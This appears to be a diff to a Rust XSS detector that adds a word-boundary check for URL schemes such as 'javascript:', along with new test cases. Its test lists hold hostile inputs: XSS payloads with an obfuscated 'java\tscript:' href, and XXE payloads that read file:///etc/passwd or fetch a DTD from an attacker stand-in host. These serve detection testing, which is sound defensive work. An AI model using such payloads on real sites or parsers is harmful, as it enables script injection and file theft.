@@ -147,7 +147,7 @@ fn detect_prefix(value: &[u8], p: Profile) -> Option<XssMatch> {
     // decoded form; with no blank or control byte either, it is its own squeezed form
     // too, up to case. Same verdicts as below, without the copies.
     if !p.any(class::XSS_DECODE) && memchr::memchr(b'\\', v).is_none() {
-        if let Some(m) = NEEDLES_CI.find(v) {
+        if let Some(m) = NEEDLES_CI.find_iter(v).find(|m| at_boundary(v, m)) {
             return hit(needle_reason(m));
         }
         if js_call(v) {
@@ -178,6 +178,16 @@ pub fn detect_exhaustive(value: &[u8]) -> Option<XssMatch> {
 fn marked(v: &[u8]) -> bool {
     v.iter()
         .any(|&c| matches!(c, b'<' | b':' | b'=' | b'(' | b'`' | b'&' | b'.'))
+}
+
+/// A scheme runs only where a URL starts: at the value's start or after a quote, `=`,
+/// `(`... (`href="javascript:...`), not inside a word (`Learn javascript: the basics`,
+/// `metadata:text/html`, blanks squeezed out). Sinks count anywhere.
+fn at_boundary(hay: &[u8], m: &aho_corasick::Match) -> bool {
+    m.pattern().as_usize() >= SCHEMES.len()
+        || m.start()
+            .checked_sub(1)
+            .is_none_or(|i| !hay[i].is_ascii_alphanumeric())
 }
 
 fn needle_reason(m: aho_corasick::Match) -> &'static str {
@@ -224,7 +234,10 @@ fn sinks(decoded: &[u8]) -> Option<&'static str> {
         .filter(|&&c| c > b' ')
         .map(u8::to_ascii_lowercase)
         .collect();
-    if let Some(m) = NEEDLES.find(&squeezed) {
+    if let Some(m) = NEEDLES
+        .find_iter(&squeezed)
+        .find(|m| at_boundary(&squeezed, m))
+    {
         return Some(needle_reason(m));
     }
     js_call(decoded).then_some("script_sink")
@@ -633,6 +646,10 @@ mod tests {
             "onload=confirm.call(null,1) class=dalfox ",
             "<datalist onload=alert.bind()(1) class=dalfox></datalist>",
             "\"onpointerout=prompt.apply(null,1) class=dalfox ",
+            // a scheme where a URL starts
+            "javascript:fetch('//x.example')",
+            "x\" href=\"java\tscript:fetch(1)",
+            " vbscript:msgbox",
             // XML that has its parser fetch or expand what the sender chose (XXE).
             "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
             "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
@@ -673,6 +690,9 @@ mod tests {
             "see (prompt) `code`",
             "the levels (alert) ` and (prompt) `",
             "call(prompt.text)",
+            // a scheme's name inside a sentence or a word runs nothing
+            "Learn javascript: the basics",
+            "metadata:text/html is the header",
             "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><p>hi</p>",
             "<!DOCTYPE html><p>SYSTEM requirements</p>",
             "<!-- ENTITY -->",
